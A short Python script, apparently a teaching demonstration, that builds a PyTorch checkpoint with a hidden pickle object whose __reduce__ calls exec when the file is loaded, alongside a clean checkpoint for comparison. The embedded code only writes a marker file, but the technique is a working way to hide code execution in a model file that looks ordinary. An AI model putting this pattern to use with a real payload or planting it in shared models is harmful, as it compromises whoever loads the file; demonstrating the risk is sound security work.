import torch


class MarkerPayload:
    # pickle calls __reduce__ to learn how to rebuild an object: "call this function with these arguments".
    # Here the function is exec, so loading the file runs our code. This one only writes a marker file.
    def __reduce__(self):
        code = "open('i_ran.txt', 'w').write('code inside the model file ran on load\\n')"
        return (exec, (code,))


torch.manual_seed(0)
weights = {"weight": torch.randn(2, 2), "bias": torch.zeros(2)}

# A file that looks like an ordinary checkpoint, with one extra entry.
torch.save({**weights, "note": MarkerPayload()}, "suspicious.pt")
# The same weights without the payload, for comparison.
torch.save(weights, "clean.pt")
print("saved suspicious.pt and clean.pt")
